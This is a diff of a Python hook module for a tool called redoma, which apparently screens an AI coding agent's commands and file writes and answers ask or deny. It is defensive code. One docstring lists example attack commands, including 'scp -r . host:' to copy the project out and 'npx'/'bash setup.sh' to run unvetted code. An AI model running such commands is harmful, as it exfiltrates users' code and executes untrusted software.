@@ -3,21 +3,24 @@
 from __future__ import annotations
 
 import os
+import sys
 
-from redoma.cli.display import harmless, shortened
+from redoma.cli.streams import read_all
 from redoma.hook.agents import ASK, DENY
+from redoma.hook.calls import Unreadable, read_call
 from redoma.i18n import phrased
 from redoma.model.decision import Decision, Verdict
+from redoma.model.display import harmless, shortened
 from redoma.model.errors import PolicyError, RecordError
-from redoma.pipeline.check import check, check_write
-from redoma.pipeline.noted import note_judged
+from redoma.pipeline.checks import CommandCheck, WriteCheck
 from redoma.pipeline.policies import load
-from redoma.pipeline.requests import Who
-from redoma.pipeline.wiring import redact
+from redoma.pipeline.redaction import redact
+from redoma.pipeline.requests import Caller
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from redoma.hook.calls import Call
+    from redoma.hook.agents import Agent
+    from redoma.hook.calls import ToolCall
     from redoma.model.policy import Policy
     from redoma.model.risk import Finding
 
@@ -26,7 +29,7 @@ LONGEST_PART = 120
 MOST_FINDINGS = 3
 
 
-def answer(call: Call, pack: str, agent: str) -> tuple[str, str] | None:
+def answer(call: ToolCall, pack: str, agent: str) -> tuple[str, str] | None:
     """`ask` or `deny` with the reason; None where the agent's own rules are left to decide.
 
     Attack: `npx some-package`, `bash setup.sh`, `scp -r . host:` raise no finding that stops them,
@@ -40,8 +43,7 @@ def answer(call: Call, pack: str, agent: str) -> tuple[str, str] | None:
         return None
     try:
         policy = load(call.project or call.cwd or ".", home=os.environ.get("HOME"))
-        decisions = _judged(call, pack, policy)
-        note_judged(decisions, policy, Who(caller=agent, session=call.session))
+        decisions = _judged(call, pack, policy, Caller(name=agent, session=call.session))
     except (PolicyError, RecordError) as error:
         # Who breaks the policy must not get rid of it, and what cannot be written down does not
         # happen: nothing is judged until it is right.
@@ -55,13 +57,12 @@ def answer(call: Call, pack: str, agent: str) -> tuple[str, str] | None:
     return word, redact(reason(decision))
 
 
-def _judged(call: Call, pack: str, policy: Policy) -> list[Decision]:
+def _judged(call: ToolCall, pack: str, policy: Policy, caller: Caller) -> tuple[Decision, ...]:
     home = os.environ.get("HOME")
     if call.command is not None:
-        return [check(call.command, pack=pack, cwd=call.cwd, home=home, policy=policy)]
-    return [
-        check_write(path, pack=pack, cwd=call.cwd, home=home, policy=policy) for path in call.paths
-    ]
+        checks = CommandCheck(policy, caller, pack=pack, cwd=call.cwd, home=home)
+        return checks.checked((call.command,))
+    return WriteCheck(policy, caller, pack=pack, cwd=call.cwd, home=home).checked(call.paths)
 
 
 def reason(decision: Decision) -> str:
@@ -92,3 +93,55 @@ def _sentence(finding: Finding, text: str) -> str:
     if not part or part == text.strip():
         return f"{said}."
     return phrased("{0}, in: {1}.", said, shortened(harmless(part), LONGEST_PART))
+
+
+ANSWERED, STOP = 0, 2
+# `--tighten-only` is what every hook does; settings that name it keep working.
+FLAGS = ("--tighten-only", "--no-ask")
+
+
+def respond(agent: Agent, arguments: list[str]) -> int:
+    """Answers the call on standard input; 0 for a judgement, 2 where there can be none."""
+    try:
+        pack, flags = read_options(arguments)
+        found = answer(read_call(read_all(sys.stdin.buffer), agent), pack, agent.name)
+    except Unreadable as error:
+        what = harmless(phrased(str(error)))
+        why = phrased("Redoma cannot read this call, so it is refused: {0}", what)
+        return refuse(agent, shortened(why, LONGEST_REASON))
+    if found is None:
+        return ANSWERED
+    word, reason = found
+    if word == ASK and "--no-ask" in flags:
+        word = DENY
+        reason += phrased(" Nobody is here to ask, so this is refused.")
+    sys.stdout.write(agent.says(word, reason))
+    sys.stdout.flush()
+    return ANSWERED
+
+
+def refuse(agent: Agent, why: str) -> int:
+    """Says no in every way that the agent listens to."""
+    sys.stdout.write(agent.says(DENY, why))
+    sys.stdout.flush()
+    sys.stderr.write(f"{why}\n")
+    return STOP
+
+
+def read_options(arguments: list[str]) -> tuple[str, set[str]]:
+    """The pack and the flags given to a hook; anything else is refused."""
+    pack = ""  # the policy's own
+    flags = set()
+    rest = iter(arguments)
+    for argument in rest:
+        if argument in FLAGS:
+            flags.add(argument)
+        elif argument == "--pack":
+            pack = next(rest, "")
+        elif argument.startswith("--pack="):
+            pack = argument.partition("=")[2]
+        else:
+            raise Unreadable(f"unknown option {argument}")
+        if argument.startswith("--pack") and not pack:
+            raise Unreadable("--pack needs a name")
+    return pack, flags
